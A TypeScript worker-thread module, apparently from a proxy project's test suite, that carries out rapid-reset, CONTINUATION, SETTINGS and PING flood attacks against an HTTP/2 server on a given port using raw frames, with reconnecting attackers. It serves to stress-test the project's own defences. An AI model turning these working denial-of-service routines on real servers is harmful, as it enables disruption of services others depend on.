// A thread of its own, so that what it costs to attack does not look like what it costs to be attacked.
import { parentPort, workerData } from 'node:worker_threads';
import { block, frame, headers, requestFields, reset, type } from '../../apps/proxy/test/support/http2-frames.ts';
import { RawHttp2 } from '../../apps/proxy/test/support/raw-http2.ts';

export const attackNames = ['rapid reset', 'CONTINUATION', 'SETTINGS', 'PING'] as const;

export interface Attack {
  readonly name: (typeof attackNames)[number];
  readonly port: number;
  readonly attackers: number;
  readonly forMs: number;
}

/** Frames in one write. */
const atOnce = 50;
const many = Array.from({ length: atOnce }, (_, index) => index);

/** Frames to send again and again. @param round counts from 0 on each connection */
function framesOf(name: Attack['name'], round: number): readonly Buffer[] {
  switch (name) {
    case 'rapid reset':
      return many.flatMap((index) => {
        const stream = 1 + 2 * (round * atOnce + index);
        return [headers(stream), reset(stream)];
      });
    case 'CONTINUATION': {
      const more = frame(type.continuation, 0, 1, block([['x-a', 'b'.repeat(1000)]]));
      return [...(round === 0 ? [headers(1, requestFields, 0)] : []), ...many.map(() => more)];
    }
    case 'SETTINGS':
      return many.map(() => frame(type.settings, 0, 0));
    case 'PING':
      return many.map(() => frame(type.ping, 0, 0, Buffer.alloc(8)));
  }
}

/** @returns how many connections were ended by the other side; each has a successor at once */
async function attack({ name, port, forMs }: Attack): Promise<number> {
  let ended = 0;
  const end = performance.now() + forMs;
  while (performance.now() < end) {
    using client = await RawHttp2.connect(port);
    for (let round = 0; performance.now() < end && !client.closed; round++) {
      client.send(...framesOf(name, round));
      // What is not taken must not fill the attacker's memory.
      if (client.socket.writableNeedDrain) await drained(client, end);
      else await new Promise((resolve) => setImmediate(resolve));
    }
    if (client.closed) ended++;
  }
  return ended;
}

function drained({ socket }: RawHttp2, end: number): Promise<void> {
  return new Promise((resolve) => {
    const go = () => {
      clearTimeout(timer);
      socket.off('drain', go).off('close', go);
      resolve();
    };
    const timer = setTimeout(go, Math.max(0, end - performance.now()));
    socket.on('drain', go).on('close', go);
  });
}

if (parentPort !== null) {
  // Whoever starts the thread gives it one.
  const given = workerData as Attack;
  const ended = await Promise.all(Array.from({ length: given.attackers }, () => attack(given)));
  parentPort.postMessage(ended.reduce((sum, each) => sum + each, 0));
}
